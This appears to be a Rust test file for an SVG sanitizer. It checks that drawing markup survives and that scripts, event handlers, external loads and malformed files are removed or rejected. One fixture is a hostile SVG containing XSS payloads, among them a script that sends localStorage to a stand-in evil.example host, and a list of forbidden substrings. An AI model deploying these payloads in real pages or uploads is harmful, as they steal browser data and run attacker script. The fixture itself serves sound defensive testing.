use super::*;

fn clean(svg: &str) -> String {
    sanitize(svg.as_bytes()).unwrap_or_else(|e| panic!("{e}: {svg}"))
}

#[test]
fn drawings_survive() {
    let out = clean(
        r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><rect width="10" height="10" fill="url(#g)" style="stroke: blue; stroke-width: 2"/><use xlink:href="#g"/><text x="1">a &lt; b</text></svg>"##,
    );
    for kept in [
        "viewBox=\"0 0 10 10\"",
        "fill=\"url(#g)\"",
        "stroke=\"blue\"",
        "stroke-width=\"2\"",
        "<use href=\"#g\">",
        "a &lt; b",
        "<stop offset=\"0\" stop-color=\"red\">",
    ] {
        assert!(out.contains(kept), "{kept} missing from {out}");
    }
    assert!(!out.contains("style="), "{out}");
    // The output is itself SVG that parses and sanitizes to itself.
    assert_eq!(clean(&out), out);
}

#[test]
fn everything_that_runs_or_loads_is_removed() {
    let hostile = r##"<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
<script>fetch('//evil.example/'+localStorage.x)</script>
<script xlink:href="/media/en-US/x.js"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(2)</script><iframe src="/x.html"/></body></foreignObject>
<image href="https://evil.example/track.png"/>
<use href="https://evil.example/sprite.svg#a"/>
<use xlink:href="other.svg#a"/>
<a href="javascript:alert(3)"><text>link text</text></a>
<animate attributeName="href" to="javascript:alert(4)"/>
<set attributeName="onclick" to="alert(5)"/>
<style>@import url(https://evil.example/x.css); rect { fill: red }</style>
<rect onclick="alert(6)" fill="url(https://evil.example/p)" style="fill: url(//evil.example/a); background-image: image-set('x.png')" filter="url( '#ok')"/>
<circle style="stroke:\75 rl(//evil.example)"/>
<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(7)</html:script>
</svg>"##;
    let out = clean(hostile);
    for gone in [
        "script",
        "onload",
        "onclick",
        "alert",
        "evil",
        "foreignObject",
        "iframe",
        "image",
        "animate",
        "<set",
        "<style",
        "@import",
        "other.svg",
        "javascript",
        "\\75",
    ] {
        assert!(!out.contains(gone), "`{gone}` survived in {out}");
    }
    assert!(
        out.contains("link text") && out.contains("filter=\"url( &#39;#ok&#39;)\""),
        "{out}"
    );
}

#[test]
fn non_svg_and_broken_files_are_refused() {
    for bad in [
        "<html><script>alert(1)</script></html>",
        "<svg>no namespace</svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><unclosed></svg>",
        "not xml at all",
    ] {
        assert!(sanitize(bad.as_bytes()).is_err(), "{bad}");
    }
    assert!(matches!(sanitize(b"\xff\xfe<"), Err(SvgError::Encoding)));
}
